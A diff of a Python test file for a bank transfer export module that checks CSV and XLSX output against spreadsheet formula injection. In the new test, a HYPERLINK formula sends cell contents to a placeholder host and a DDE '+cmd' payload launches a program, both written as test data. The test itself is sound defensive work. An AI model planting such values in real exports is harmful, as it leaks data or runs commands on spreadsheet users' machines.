@@ -9,6 +9,7 @@ import io
 import re
 import shutil
 import subprocess
+import zipfile
 from decimal import Decimal
 from pathlib import Path
 from typing import Any
@@ -377,12 +378,41 @@ def test_bank_file_xlsx_cells() -> None:
 def test_bank_row_checks() -> None:
     with pytest.raises(ValueError, match="digits"):
         BankRow("6222 0212", "张三", Decimal("1.00"), "P1")
-    with pytest.raises(ValueError, match="must not start"):
-        BankRow("62220212", "=HYPERLINK()", Decimal("1.00"), "P1")
+    with pytest.raises(ValueError, match="holder is empty"):
+        BankRow("62220212", " ", Decimal("1.00"), "P1")
     with pytest.raises(ValueError, match="positive"):
         BankRow("62220212", "张三", Decimal("0.00"), "P1")
     with pytest.raises(TypeError):
         BankRow("62220212", "张三", 1.0, "P1")  # type: ignore[arg-type]
+
+
+HOSTILE = '=HYPERLINK("http://x.example/?"&A1,"点击")'
+
+
+def test_bank_file_is_written_for_any_name_and_runs_nothing() -> None:
+    hostile = BankFile(
+        batch_reference="DF2018090002",
+        rows=[
+            BankRow("6222021234567890123", HOSTILE, Decimal("10.00"), "P0001", "生活费补助"),
+            BankRow("6217000010012345678", "+cmd|' /C calc'!A0", Decimal("1"), "P0002", "@SUM(1)"),
+            BankRow("6228480012345678901", "-2+3", Decimal("2.00"), "P0003", "", "张\r\n=1+1"),
+        ],
+    )
+    # a name a spreadsheet would run: the CSV keeps its text after an apostrophe, one line each
+    lines = bank_file_csv(hostile).decode("utf-8-sig").split("\r\n")
+    rows = list(csv.reader(lines[2:5]))
+    assert [r[2] for r in rows] == ["'" + HOSTILE, "'+cmd|' /C calc'!A0", "-2+3"]
+    assert rows[1][5] == "'@SUM(1)" and rows[2][5] == "张  =1+1"
+    assert len(lines) == 7 and all(len(r) == 6 for r in csv.reader(lines[:6]))
+    for row in csv.reader(lines[:6]):
+        for value in row:
+            assert not value.startswith(("=", "+", "@", "\t", "\r")), value
+            assert not value.startswith("-") or value == "-2+3"  # digits only: nothing to run
+    # the workbook keeps the text exactly, as a text cell
+    _sheet, cells = _cells(bank_file_xlsx(hostile))
+    assert [r[2] for r in cells[2:5]] == [HOSTILE, "+cmd|' /C calc'!A0", "-2+3"]
+    with zipfile.ZipFile(io.BytesIO(bank_file_xlsx(hostile))) as book:
+        assert "<f>" not in book.read("xl/worksheets/sheet1.xml").decode()
 
 
 def _bank_echo(data: bytes, results: dict[str, tuple[str, str]], encoding: str) -> bytes:
